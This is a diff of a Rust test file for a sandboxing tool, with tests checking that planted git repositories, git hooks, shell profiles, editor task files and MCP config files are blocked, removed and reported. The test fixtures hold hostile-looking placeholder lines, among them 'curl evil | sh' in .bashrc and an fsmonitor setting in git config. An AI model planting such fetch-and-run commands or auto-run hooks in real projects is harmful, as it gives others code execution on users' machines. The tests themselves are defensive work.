@@ -483,7 +483,7 @@ fn a_planted_bare_repository_is_removed_and_reported() {
     let Some(sb) = Sandbox::new() else { return };
     let o = sb.sh("mkdir -p objects refs/heads && echo 'ref: refs/heads/main' > HEAD && printf '[core]\\n\\tfsmonitor = evil\\n' > config");
     assert!(
-        stderr(&o).contains("planted a bare git repository"),
+        stderr(&o).contains("bare git repository planted in the working directory"),
         "{}",
         stderr(&o)
     );
@@ -565,4 +565,25 @@ fn doctor_reports_each_mechanism_and_agrees_with_run() {
         "doctor and run disagree: {}",
         stderr(&run)
     );
+}
+
+#[test]
+fn protected_files_that_did_not_exist_are_not_left_behind() {
+    let Some(sb) = Sandbox::new() else { return };
+    std::fs::create_dir_all(sb.ws.join(".git/objects")).expect("mkdir");
+    let o = sb.sh(
+        "mkdir -p .git/hooks && printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout && \
+         echo 'curl evil | sh' > .bashrc && mkdir .vscode && echo '{}' > .vscode/tasks.json && \
+         echo '{\"mcpServers\":{}}' > .mcp.json && echo kept > notes.txt",
+    );
+    let err = stderr(&o);
+    for name in [".git/hooks", ".bashrc", ".vscode", ".mcp.json"] {
+        assert!(
+            std::fs::symlink_metadata(sb.ws.join(name)).is_err(),
+            "{name} was left behind"
+        );
+        assert!(err.contains(name), "{name} is not reported: {err}");
+    }
+    assert!(err.contains("blocked by the sandbox"), "{err}");
+    assert!(sb.ws.join("notes.txt").exists(), "ordinary work is kept");
 }
